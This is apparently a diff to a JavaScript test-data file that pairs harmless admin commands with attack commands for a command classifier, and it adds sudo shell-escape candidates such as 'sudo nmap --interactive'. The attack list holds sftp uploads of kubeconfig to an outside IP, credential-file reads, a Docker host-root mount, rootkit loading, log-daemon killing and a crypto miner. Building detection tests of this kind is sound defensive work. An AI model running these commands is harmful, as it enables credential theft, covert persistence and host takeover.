@@ -88,6 +88,7 @@ const BENIGN_LOOK_ALIKES = [
 `auditctl -a always,exit -F arch=b64 -S execve -F euid=0 -k root-cmds`, `sudo systemctl restart cron`, `python3 deploy.py --kubeconfig ~/.kube/config`,
 `TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60') && curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-type`,
 `sftp backup@nas01 <<< 'put /srv/backup.tgz'`, `echo "[Service]" | sudo tee /etc/systemd/system/vllm.service`,
+`sudo mysql`, `sudo telnet 10.0.0.5 6443`, `sudo iftop -i eth0`, `sudo ncdu /var`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
@@ -188,7 +189,7 @@ const ATTACK_VARIANTS = [
 `sudo chmod 755 /tmp/payload`, `cp /bin/sh ./`, `gcc -o /dev/shm/x /dev/shm/x.c`, `tar czf /var/tmp/.c/h.tgz /home`, `ncat -lvp 9001`, `proxychains4 -q curl http://10.1.1.1/`,
 `su nobody -c id`, `auditctl -a exit,always -S execve`, `wget -qO- --method=PUT http://169.254.169.254/latest/api/token`, `xxd /etc/rancher/k3s/k3s.yaml`,
 `sftp ops@198.51.100.20 <<< 'put /root/.kube/config'`, `echo 'ExecStart=/usr/bin/python3 /opt/a.py' >> /etc/systemd/system/a.service`, `ldapmodify -a -x -D cn=admin -w pw -f u.ldif`,
-`sudo pkill -x crond`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
+`sudo pkill -x crond`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
 `socat tcp:203.0.113.8:80 create:/dev/shm/.u`, `grep -rn token /var/lib/kubelet`, `systemd-run --unit kthreadd-helper /bin/sh -c 'sleep 1'`, `sudo pkill rsyslogd`,
 `curl -X POST https://10.1.1.1:2376/containers/create -d '{"Image":"busybox","Binds":["/:/h"]}'`, `mount --bind /proc/1 /proc/$(pgrep -f miner)`, `modprobe diamorphine_v2`, `python3 -m http.server 80 --directory /etc`,
 `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
